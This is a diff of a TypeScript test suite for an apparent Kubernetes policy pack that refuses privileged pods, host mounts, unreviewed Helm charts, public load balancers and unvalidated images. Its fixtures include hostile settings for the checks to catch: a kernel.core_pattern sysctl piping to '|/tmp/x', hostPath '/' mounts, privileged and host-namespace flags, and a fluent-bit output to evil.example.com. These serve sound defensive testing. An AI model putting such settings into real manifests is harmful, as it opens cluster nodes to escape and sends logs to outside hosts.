@@ -220,14 +220,14 @@ describe("pod-privileges (T11)", () => {
 
   test("prod1 passes: flannel, fluent-bit and the CSI controller are the allowed platform workloads", () => {
     expect(messages(prod1, p())).toEqual([]);
-    expect(cfg("pod-privileges").privilegedWorkloads).toEqual(["kube-flannel/kube-flannel-ds", "logging/fluent-bit", "kube-system/csi-provisioner"]);
+    expect(cfg("pod-privileges").privilegedWorkloads).toEqual(["kube-flannel/kube-flannel-ds", "logging/fluent-bit@fluent-bit", "kube-system/csi-provisioner"]);
     // Node-exporter's host access is on by default in kube-prometheus-stack 87.12.5 (prometheus-node-exporter
     // 4.55.1 values.yaml:382-397), the CSI node plugin's whatever the values: granted path by path.
     expect(cfg("pod-privileges").privilegedChartValues).toEqual([
-      "monitoring/kube-prometheus-stack:prometheus-node-exporter.hostNetwork",
-      "monitoring/kube-prometheus-stack:prometheus-node-exporter.hostPID",
-      "monitoring/kube-prometheus-stack:prometheus-node-exporter.hostRootFsMount.enabled",
-      "kube-system/alibaba-cloud-csi-driver:csi.disk.enabled",
+      "monitoring/kube-prometheus-stack@kube-prometheus-stack:prometheus-node-exporter.hostNetwork",
+      "monitoring/kube-prometheus-stack@kube-prometheus-stack:prometheus-node-exporter.hostPID",
+      "monitoring/kube-prometheus-stack@kube-prometheus-stack:prometheus-node-exporter.hostRootFsMount.enabled",
+      "kube-system/alibaba-cloud-csi-driver@alibaba-cloud-csi-driver:plugin.enabled",
     ]);
   });
 
@@ -235,8 +235,8 @@ describe("pod-privileges (T11)", () => {
     const found = messages(prod1, podPrivileges("mandatory", { ...cfg("pod-privileges"), privilegedChartValues: [] }));
     expect(found).toEqual(
       [
-        "prod1-disk-csi-driver: kube-system/alibaba-cloud-csi-driver asks for the node (csi.disk.enabled: a privileged node plugin with hostNetwork, hostPID, hostIPC) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit, kube-system/csi-provisioner); FIX (pod-privileges.privilegedWorkloads)",
-        "prod1-monitoring-kube-prometheus-stack: monitoring/kube-prometheus-stack asks for the node (prometheus-node-exporter.hostNetwork (chart default): hostNetwork, prometheus-node-exporter.hostPID (chart default): hostPID, prometheus-node-exporter.hostRootFsMount.enabled (chart default): hostPath /) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit, kube-system/csi-provisioner); FIX (pod-privileges.privilegedWorkloads)",
+        "prod1-disk-csi-driver: kube-system/alibaba-cloud-csi-driver asks for the node (plugin.enabled (chart default): a privileged node plugin with hostNetwork, hostPID, hostIPC) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); FIX (pod-privileges.privilegedWorkloads)",
+        "prod1-monitoring-kube-prometheus-stack: monitoring/kube-prometheus-stack asks for the node (prometheus-node-exporter.hostNetwork (chart default): hostNetwork, prometheus-node-exporter.hostPID (chart default): hostPID, prometheus-node-exporter.hostRootFsMount.enabled (chart default): hostPath /) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); FIX (pod-privileges.privilegedWorkloads)",
       ].map((m) => m.replace("FIX", FIX)),
     );
   });
@@ -266,7 +266,33 @@ describe("pod-privileges (T11)", () => {
           "template.spec.initContainers[0].securityContext.appArmorProfile.type=Unconfined",
           "template.spec.securityContext.seccompProfile.type=Unconfined",
         ].join(", ") +
-        `) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`,
+        `) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`,
+    ]);
+  });
+
+  test("the rest of baseline: procMount Unmasked, an unsafe sysctl, an SELinux type, user or role, windowsOptions.hostProcess", () => {
+    const bad = mutated((s) => {
+      const spec = podSpec(s, ORDER);
+      spec.securityContext = {
+        sysctls: [
+          { name: "net.ipv4.tcp_syncookies", value: "1" },
+          { name: "kernel.core_pattern", value: "|/tmp/x" },
+        ],
+        seLinuxOptions: { type: "spc_t" },
+      };
+      spec.containers[0].securityContext = { procMount: "Unmasked", seLinuxOptions: { type: "container_t", user: "system_u" } };
+      spec.initContainers[0].securityContext = { windowsOptions: { hostProcess: true }, procMount: "Default" };
+    });
+    expect(messages(bad, p())).toEqual([
+      `${ORDER}: commerce/order-service asks for the node (` +
+        [
+          "template.spec.containers[0].securityContext.procMount=Unmasked",
+          "template.spec.containers[0].securityContext.seLinuxOptions.user=system_u",
+          "template.spec.initContainers[0].securityContext.windowsOptions.hostProcess",
+          "template.spec.securityContext.seLinuxOptions.type=spc_t",
+          "template.spec.securityContext.sysctls[1]=kernel.core_pattern",
+        ].join(", ") +
+        `) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`,
     ]);
   });
 
@@ -316,11 +342,12 @@ describe("pod-privileges (T11)", () => {
       spec.volumes = [...(spec.volumes ?? []), { name: "root", hostPath: { path: "/" } }];
       any(one(s, "prod1-monitoring-kube-prometheus-stack").props).values.prometheus = { prometheusSpec: { hostPID: true } };
     });
-    const found = messages(bad, p());
+    // Sorted: the plan's resource order is not what this test is about.
+    const found = messages(bad, p()).sort();
     expect(found).toHaveLength(2);
     const volumeIndex = podSpec(bad, ORDER).volumes.length - 1;
     expect(found[1]).toBe(
-      `${ORDER}: commerce/order-service asks for the node (template.spec.containers[0].securityContext.privileged, template.spec.hostNetwork, template.spec.volumes[${volumeIndex}].hostPath) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit, kube-system/csi-provisioner); allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (pod-privileges.privilegedWorkloads)`,
+      `${ORDER}: commerce/order-service asks for the node (template.spec.containers[0].securityContext.privileged, template.spec.hostNetwork, template.spec.volumes[${volumeIndex}].hostPath) but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (pod-privileges.privilegedWorkloads)`,
     );
     expect(found[0]).toMatch(
       /^prod1-monitoring-kube-prometheus-stack: monitoring\/kube-prometheus-stack asks for the node \(prometheus\.prometheusSpec\.hostPID\)/,
@@ -349,6 +376,198 @@ describe("pod-privileges (T11)", () => {
       spec.containers[0].securityContext = { privileged: false, allowPrivilegeEscalation: false };
     });
     expect(messages(ok, p())).toEqual([]);
+  });
+});
+
+describe("pod-privileges (T11): charts by URL, charts never reviewed, values the plan does not show", () => {
+  const p = () => podPrivileges("mandatory", cfg("pod-privileges"));
+  const KPS_URL = "https://prometheus-community.github.io/helm-charts/kube-prometheus-stack-87.12.5.tgz";
+  const release = (s: PolicyStack, name: string, props: Record<string, unknown>) =>
+    s.resources.push({
+      type: "kubernetes:helm.sh/v3:Release",
+      name,
+      urn: `urn:pulumi:prod1::platform::kubernetes:helm.sh/v3:Release::${name}`,
+      props: { namespace: "commerce", name, values: {}, ...props },
+    });
+  const NOT_LISTED = `but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`;
+
+  test("the charts outside CHART_PRIVILEGE_VALUES that prod1 installs are reviewed by name@version in the pack config", () => {
+    expect(cfg("pod-privileges").reviewedCharts).toEqual(["kubelet-csr-approver@1.2.14", "ks-core@1.1.4", "skywalking-helm@4.7.0"]);
+    expect(cfg("pod-privileges").unreadValuesReleases).toEqual([]);
+    expect(messages(prod1, p())).toEqual([]);
+  });
+
+  test("kube-prometheus-stack named by its archive URL, values {}: node-exporter's default hostNetwork, hostPID and root mount are named", () => {
+    const bad = mutated((s) => release(s, "metrics", { chart: KPS_URL }));
+    expect(messages(bad, p())).toEqual([
+      `metrics: commerce/metrics asks for the node (prometheus-node-exporter.hostNetwork (chart default): hostNetwork, prometheus-node-exporter.hostPID (chart default): hostPID, prometheus-node-exporter.hostRootFsMount.enabled (chart default): hostPath /) ${NOT_LISTED}`,
+    ]);
+    // The archive's version is the one Helm installs, whatever `version` says.
+    const other = mutated((s) => release(s, "metrics", { chart: KPS_URL.replace("87.12.5", "88.0.0"), version: "87.12.5" }));
+    expect(messages(other, p())).toEqual([
+      `metrics: commerce/metrics asks for the node (chart kube-prometheus-stack 88.0.0, whose privilege values the pack read at 87.12.5 only (CHART_PRIVILEGE_VALUES)) ${NOT_LISTED}`,
+    ]);
+  });
+
+  test("a chart never reviewed (standalone prometheus-node-exporter, traefik) or a local chart is refused, naming the key to set; listed there, it is judged by its values", () => {
+    const bad = mutated((s) => {
+      release(s, "node-exporter", {
+        chart: "prometheus-node-exporter",
+        version: "4.55.1",
+        repositoryOpts: { repo: "https://prometheus-community.github.io/helm-charts" },
+      });
+      release(s, "edge", { chart: "oci://ghcr.io/traefik/helm/traefik", version: "37.1.1" });
+      release(s, "mine", { chart: "./charts/mine" });
+    });
+    expect(messages(bad, p())).toEqual([
+      `node-exporter: commerce/node-exporter asks for the node (chart prometheus-node-exporter 4.55.1, which the pack has not reviewed (neither CHART_PRIVILEGE_VALUES nor pod-privileges.reviewedCharts "prometheus-node-exporter@4.55.1"), so what its defaults render is unknown) ${NOT_LISTED}`,
+      `edge: commerce/edge asks for the node (chart traefik 37.1.1, which the pack has not reviewed (neither CHART_PRIVILEGE_VALUES nor pod-privileges.reviewedCharts "traefik@37.1.1"), so what its defaults render is unknown) ${NOT_LISTED}`,
+      `mine: commerce/mine asks for the node (local chart ./charts/mine, whose templates are whatever the checkout holds) ${NOT_LISTED}`,
+    ]);
+    const reviewed = podPrivileges("mandatory", {
+      ...cfg("pod-privileges"),
+      reviewedCharts: [...(cfg("pod-privileges").reviewedCharts as string[]), "traefik@37.1.1"],
+    });
+    expect(messages(bad, reviewed).filter((m) => m.startsWith("edge:"))).toEqual([]);
+    const withHost = mutated((s) => release(s, "edge", { chart: "oci://ghcr.io/traefik/helm/traefik", version: "37.1.1", values: { hostNetwork: true } }));
+    expect(messages(withHost, reviewed)).toEqual([`edge: commerce/edge asks for the node (hostNetwork) ${NOT_LISTED}`]);
+  });
+
+  test("kube-prometheus-stack with nodeExporter.enabled false renders no node-exporter: its defaults do not count", () => {
+    const off = mutated((s) => release(s, "metrics", { chart: "kube-prometheus-stack", version: "87.12.5", values: { nodeExporter: { enabled: false } } }));
+    expect(messages(off, p())).toEqual([]);
+    const on = mutated((s) => release(s, "metrics", { chart: "kube-prometheus-stack", version: "87.12.5", values: { nodeExporter: { enabled: true } } }));
+    expect(messages(on, p())).toHaveLength(1);
+  });
+
+  test("the CSI chart renders its privileged node plugin whenever plugin.enabled, whichever driver is on: a second release with csi.disk.enabled false is refused", () => {
+    const second = (values: Record<string, unknown>) =>
+      mutated((s) =>
+        release(s, "csi2", {
+          chart: "alibaba-cloud-csi-driver",
+          version: "1.36.2",
+          repositoryOpts: { repo: "https://kubernetes-sigs.github.io/alibaba-cloud-csi-driver" },
+          values,
+        }),
+      );
+    expect(messages(second({ csi: { disk: { enabled: false }, nas: { enabled: true } } }), p())).toEqual([
+      `csi2: commerce/csi2 asks for the node (plugin.enabled (chart default): a privileged node plugin with hostNetwork, hostPID, hostIPC) ${NOT_LISTED}`,
+    ]);
+    expect(messages(second({ plugin: { enabled: false } }), p())).toEqual([]);
+  });
+
+  test("a grant names the chart: logging/fluent-bit installing kube-prometheus-stack instead loses fluent-bit's grant", () => {
+    const swapped = mutated((s) => {
+      const fb = any(one(s, "prod1-logging-fluent-bit").props);
+      Object.assign(fb, { chart: "kube-prometheus-stack", version: "87.12.5", values: {} });
+    });
+    expect(messages(swapped, p())).toEqual([
+      `prod1-logging-fluent-bit: logging/fluent-bit asks for the node (prometheus-node-exporter.hostNetwork (chart default): hostNetwork, prometheus-node-exporter.hostPID (chart default): hostPID, prometheus-node-exporter.hostRootFsMount.enabled (chart default): hostPath /) ${NOT_LISTED}`,
+    ]);
+    // fluent-bit named by its archive URL is still fluent-bit: granted, and its outputs still judged (T4).
+    const byUrl = mutated((s) => {
+      const fb = any(one(s, "prod1-logging-fluent-bit").props);
+      fb.chart = "https://fluent.github.io/helm-charts/fluent-bit-0.57.9.tgz";
+      fb.values.config.outputs = "[OUTPUT]\n    Name kafka\n    Brokers evil.example.com:9093\n";
+    });
+    expect(messages(byUrl, p())).toEqual([]);
+    expect(messages(byUrl, credentialEndpoints("mandatory", cfg("credential-endpoints")))).toEqual([
+      expect.stringMatching(/^prod1-logging-fluent-bit: fluent-bit output evil\.example\.com:9093 is not an allowed log store/),
+    ]);
+  });
+
+  test("valueYamlFiles or a post-renderer is refused unless the release is granted in unreadValuesReleases", () => {
+    const bad = mutated((s) => {
+      any(one(s, "prod1-ingress-controller").props).valueYamlFiles = [{ path: "./values-override.yaml" }];
+      any(one(s, "prod1-metrics-metrics-server").props).postrender = "./add-host-network.sh";
+    });
+    const why = (what: string) =>
+      `sets ${what}, which hand the chart values or objects the plan does not show, so neither its privileges nor its Services can be judged; put them in values, or ${FIX} (pod-privileges.unreadValuesReleases)`;
+    expect(messages(bad, p())).toEqual([
+      `prod1-metrics-metrics-server: kube-system/metrics-server ${why("postrender")}`,
+      `prod1-ingress-controller: ingress-nginx/ingress-nginx ${why("valueYamlFiles")}`,
+    ]);
+    const granted = podPrivileges("mandatory", { ...cfg("pod-privileges"), unreadValuesReleases: ["ingress-nginx/ingress-nginx"] });
+    expect(messages(bad, granted).map((m) => m.split(":")[0])).toEqual(["prod1-metrics-metrics-server"]);
+    // v4 Chart's postRenderer too; an empty list or empty value is nothing.
+    const v4 = mutated((s) => {
+      s.resources.push({
+        type: "kubernetes:helm.sh/v4:Chart",
+        name: "v4",
+        urn: "urn:pulumi:prod1::platform::kubernetes:helm.sh/v4:Chart::v4",
+        props: { namespace: "commerce", name: "v4", chart: "ks-core", version: "1.1.4", postRenderer: { command: "/bin/sed" }, valueYamlFiles: [] },
+      });
+      any(one(s, "prod1-ingress-controller").props).valueYamlFiles = [];
+      any(one(s, "prod1-ingress-controller").props).postrender = "";
+    });
+    expect(messages(v4, p())).toEqual([`v4: commerce/v4 ${why("postRenderer")}`]);
+  });
+});
+
+describe("pod-privileges (T11): every kind that carries pods, and PersistentVolumes on the node's disk", () => {
+  const p = () => podPrivileges("mandatory", cfg("pod-privileges"));
+  const add = (s: PolicyStack, type: string, name: string, props: Record<string, unknown>) =>
+    s.resources.push({ type, name, urn: `urn:pulumi:prod1::platform::${type}::${name}`, props: { metadata: { name, namespace: "commerce" }, ...props } });
+  const NOT_LISTED = `but is not one of the privileged platform workloads (kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`;
+  const pod = (extra: Record<string, unknown>) => ({ containers: [{ name: "c", image: "busybox" }], ...extra });
+
+  test("a hostPath or local PersistentVolume is refused (a claim in any namespace mounts it); a CSI one passes; granted by PersistentVolume/<name>", () => {
+    const bad = mutated((s) => {
+      add(s, "kubernetes:core/v1:PersistentVolume", "root", { metadata: { name: "root" }, spec: { capacity: { storage: "1Gi" }, hostPath: { path: "/" } } });
+      add(s, "kubernetes:core/v1:PersistentVolume", "disk", { metadata: { name: "disk" }, spec: { local: { path: "/var/lib/kubelet" } } });
+      add(s, "kubernetes:core/v1:PersistentVolumePatch", "patched", { metadata: { name: "patched" }, spec: { hostPath: { path: "/etc" } } });
+      add(s, "kubernetes:core/v1:PersistentVolume", "cloud", {
+        metadata: { name: "cloud" },
+        spec: { csi: { driver: "diskplugin.csi.alibabacloud.com", volumeHandle: "d-1" } },
+      });
+    });
+    const CLAIM = "(a PersistentVolumeClaim in any namespace mounts the node's disk, which Pod Security baseline allows)";
+    expect(messages(bad, p())).toEqual([
+      `root: PersistentVolume/root asks for the node (spec.hostPath ${CLAIM}) ${NOT_LISTED}`,
+      `disk: PersistentVolume/disk asks for the node (spec.local ${CLAIM}) ${NOT_LISTED}`,
+      `patched: PersistentVolume/patched asks for the node (spec.hostPath ${CLAIM}) ${NOT_LISTED}`,
+    ]);
+    const granted = podPrivileges("mandatory", {
+      ...cfg("pod-privileges"),
+      privilegedWorkloads: [...(cfg("pod-privileges").privilegedWorkloads as string[]), "PersistentVolume/disk"],
+    });
+    expect(messages(bad, granted).map((m) => m.split(":")[0])).toEqual(["root", "patched"]);
+  });
+
+  test("ReplicationController, PodTemplate, each *Patch (a patch may set only hostPID) and a custom resource's pod template are walked", () => {
+    const bad = mutated((s) => {
+      add(s, "kubernetes:core/v1:ReplicationController", "rc", { spec: { template: { spec: pod({ hostNetwork: true }) } } });
+      add(s, "kubernetes:core/v1:PodTemplate", "tpl", { template: { spec: pod({ hostIPC: true }) } });
+      add(s, "kubernetes:apps/v1:DeploymentPatch", "dp", { spec: { template: { spec: { hostPID: true } } } });
+      add(s, "kubernetes:core/v1:PodPatch", "pp", { spec: { volumes: [{ name: "r", hostPath: { path: "/" } }] } });
+      add(s, "kubernetes:batch/v1:JobPatch", "jp", { spec: { template: { spec: { containers: [{ name: "c", securityContext: { privileged: true } }] } } } });
+      add(s, "kubernetes:batch/v1:CronJobPatch", "cjp", { spec: { jobTemplate: { spec: { template: { spec: { hostNetwork: true } } } } } });
+      add(s, "kubernetes:apps/v1:ReplicaSetPatch", "rsp", { spec: { template: { spec: { hostPID: true } } } });
+      add(s, "kubernetes:apps/v1:StatefulSetPatch", "ssp", { spec: { template: { spec: { hostIPC: true } } } });
+      add(s, "kubernetes:apps/v1:DaemonSetPatch", "dsp", { spec: { template: { spec: { hostNetwork: true } } } });
+      add(s, "kubernetes:argoproj.io/v1alpha1:Rollout", "rollout", { spec: { template: { spec: pod({ hostPID: true }) } } });
+      add(s, "kubernetes:example.com/v1:Runner", "runner", {
+        spec: { pods: [{ podSpec: { containers: [{ name: "c", securityContext: { privileged: true } }] } }] },
+      });
+    });
+    expect(messages(bad, p())).toEqual(
+      [
+        "rc: commerce/rc asks for the node (template.spec.hostNetwork)",
+        "tpl: commerce/tpl asks for the node (template.spec.hostIPC)",
+        "dp: commerce/dp asks for the node (template.spec.hostPID)",
+        "pp: commerce/pp asks for the node (spec.volumes[0].hostPath)",
+        "jp: commerce/jp asks for the node (template.spec.containers[0].securityContext.privileged)",
+        "cjp: commerce/cjp asks for the node (jobTemplate.spec.template.spec.hostNetwork)",
+        "rsp: commerce/rsp asks for the node (template.spec.hostPID)",
+        "ssp: commerce/ssp asks for the node (template.spec.hostIPC)",
+        "dsp: commerce/dsp asks for the node (template.spec.hostNetwork)",
+        "rollout: commerce/rollout asks for the node (template.spec.hostPID)",
+        "runner: commerce/runner asks for the node (pods[0].podSpec.containers[0].securityContext.privileged)",
+      ].map((m) => `${m} ${NOT_LISTED}`),
+    );
+    // A custom resource without a pod spec is not a workload, whatever its keys.
+    const cr = mutated((s) => add(s, "kubernetes:example.com/v1:Setting", "flags", { spec: { privileged: true } }));
+    expect(messages(cr, p())).toEqual([]);
   });
 });
 
@@ -484,12 +703,75 @@ describe("no-public-load-balancers (T15)", () => {
     expect(messages(withService({ external: { enabled: false } }), p())).toEqual([]);
   });
 
+  test("ingress-nginx named by its archive URL is still ingress-nginx: values {} render the default LoadBalancer Service", () => {
+    const bad = mutated((s) => {
+      s.resources.push({
+        type: "kubernetes:helm.sh/v3:Release",
+        name: "edge",
+        urn: "urn:pulumi:prod1::platform::kubernetes:helm.sh/v3:Release::edge",
+        props: {
+          namespace: "commerce",
+          name: "edge",
+          chart: "https://github.com/kubernetes/ingress-nginx/releases/download/helm-chart-4.15.1/ingress-nginx-4.15.1.tgz",
+          values: {},
+        },
+      });
+    });
+    expect(messages(bad, p())).toEqual([
+      `edge: commerce/edge values controller.service render a LoadBalancer Service that gets an internet-facing SLB (address-type unset, so internet); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
+    ]);
+  });
+
+  test("ingress-nginx's metrics, default-backend and webhook Services are judged too (any chart value map with type: LoadBalancer)", () => {
+    const bad = mutated((s) => {
+      const v = any(one(s, "prod1-ingress-controller").props).values;
+      v.controller.metrics.service = { type: "LoadBalancer" };
+      v.controller.admissionWebhooks.service = { type: "LoadBalancer" };
+      v.defaultBackend = {
+        enabled: true,
+        service: { type: "LoadBalancer", annotations: { "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type": "intranet" } },
+      };
+    });
+    const rendered = (which: string) =>
+      `prod1-ingress-controller: ingress-nginx/ingress-nginx values ${which} render a LoadBalancer Service that gets an internet-facing SLB (address-type unset, so internet); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`;
+    expect(messages(bad, p())).toEqual([rendered("controller.admissionWebhooks.service"), rendered("controller.metrics.service")]);
+  });
+
   test("another chart's values asking for a LoadBalancer (SkyWalking's UI Service) are refused without the annotation", () => {
     const bad = mutated((s) => {
       any(one(s, "prod1-tracing-skywalking").props).values.ui.service = { type: "LoadBalancer" };
     });
     expect(messages(bad, p())).toEqual([
       `prod1-tracing-skywalking: tracing/skywalking values ui.service render a LoadBalancer Service that gets an internet-facing SLB (address-type unset, so internet); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
+    ]);
+  });
+
+  test("the CCM reads the alibaba-cloud- annotation first and the legacy alicloud- one only when it is absent", () => {
+    const svcWith = (annotations: Record<string, string>) =>
+      mutated((s) => {
+        const svc = any(one(s, "prod1-order-service-service-order-service").props);
+        svc.spec.type = "LoadBalancer";
+        svc.metadata.annotations = annotations;
+      });
+    const NEW = "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type";
+    const LEGACY = "service.beta.kubernetes.io/alicloud-loadbalancer-address-type";
+    expect(messages(svcWith({ [NEW]: "intranet", [LEGACY]: "internet" }), p())).toEqual([]);
+    expect(messages(svcWith({ [NEW]: "internet", [LEGACY]: "intranet" }), p())).toEqual([
+      `prod1-order-service-service-order-service: LoadBalancer Service commerce/order-service gets an internet-facing SLB (address-type "internet"); annotate ${NEW}: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
+    ]);
+  });
+
+  test("ingress-nginx renders the internal Service only with annotations (controller-service-internal.yaml:1): enabled without them, nothing is rendered", () => {
+    const internal = (annotations?: Record<string, string>) =>
+      mutated((s) => {
+        any(one(s, "prod1-ingress-controller").props).values.controller.service = {
+          type: "NodePort",
+          internal: { enabled: true, type: "LoadBalancer", ...(annotations ? { annotations } : {}) },
+        };
+      });
+    expect(messages(internal(), p())).toEqual([]);
+    expect(messages(internal({ "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-spec": "slb.s1.small" }), p())).toEqual([
+      `prod1-ingress-controller: ingress-nginx/ingress-nginx values controller.service.internal render a LoadBalancer Service that gets an internet-facing SLB (address-type unset, so internet); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
     ]);
   });
 
@@ -693,6 +975,32 @@ describe("validated-in-pre (T21): the real preview refuses a prod tag pre never 
       "log-tail-0 mirror.livemall.internal/docker.io/library/busybox:1.36.1",
       "log-tail-1 mirror.livemall.internal/docker.io/library/busybox:1.36.1",
       "app harbor.livemall.internal/scm/supply-chain:supply-chain-v3.1.1",
+    ]);
+  });
+
+  test("every kind under a JavaApp counts (a Job, a CronJob, a StatefulSet patch), ephemeral containers too; a digest on the app's image is refused", () => {
+    const IMG = "harbor.livemall.internal/commerce/order-service";
+    const under = (s: PolicyStack, type: string, name: string, spec: Record<string, unknown>) =>
+      s.resources.push({
+        type,
+        name,
+        urn: `urn:pulumi:prod1::platform::platform:k8s:JavaApp$${type}::${name}`,
+        props: { metadata: { name, namespace: "commerce", labels: { "app.kubernetes.io/name": "order-service" } }, spec },
+      });
+    const bad = mutated((s) => {
+      under(s, "kubernetes:batch/v1:Job", "migrate", { template: { spec: { containers: [{ name: "m", image: `${IMG}:order-service-v9.0.0` }] } } });
+      under(s, "kubernetes:batch/v1:CronJob", "nightly", {
+        jobTemplate: { spec: { template: { spec: { containers: [{ name: "n", image: `${IMG}:order-service-v2.3.1` }] } } } },
+      });
+      under(s, "kubernetes:apps/v1:StatefulSetPatch", "cache", { template: { spec: { containers: [{ name: "c", image: "redis:7" }] } } });
+      podSpec(s, ORDER).ephemeralContainers = [{ name: "debug", image: "mirror.livemall.internal/docker.io/library/busybox:1.37.0" }];
+      podSpec(s, ORDER).containers[0].image = `${IMG}:order-service-v2.3.0@sha256:${"ab".repeat(32)}`;
+    });
+    expect(messages(bad, p())).toEqual([
+      `${ORDER}: commerce/order-service container app runs ${IMG}:order-service-v2.3.0@sha256:${"ab".repeat(32)}, whose digest @sha256:${"ab".repeat(32)} picks the build, not the tag pre validated; name the app's image by a validated tag alone`,
+      `${ORDER}: commerce/order-service container debug runs mirror.livemall.internal/docker.io/library/busybox:1.37.0, neither order-service's own image with a tag pre validated nor one of the platform's sidecars (mirror.livemall.internal/docker.io/apache/skywalking-java-agent:9.3.0-alpine, mirror.livemall.internal/docker.io/library/busybox:1.36.1; validated-in-pre.sidecarImages in the pack config)`,
+      `migrate: commerce/migrate container m runs ${IMG}:order-service-v9.0.0, a tag pre never validated (pre ran ${PRE_ORDER_TAGS.join(", ")}); release it into pre, then \`npm run promote -- pre <prod stack> order-service\``,
+      `cache: commerce/cache container c runs redis:7, neither order-service's own image with a tag pre validated nor one of the platform's sidecars (mirror.livemall.internal/docker.io/apache/skywalking-java-agent:9.3.0-alpine, mirror.livemall.internal/docker.io/library/busybox:1.36.1; validated-in-pre.sidecarImages in the pack config)`,
     ]);
   });
 
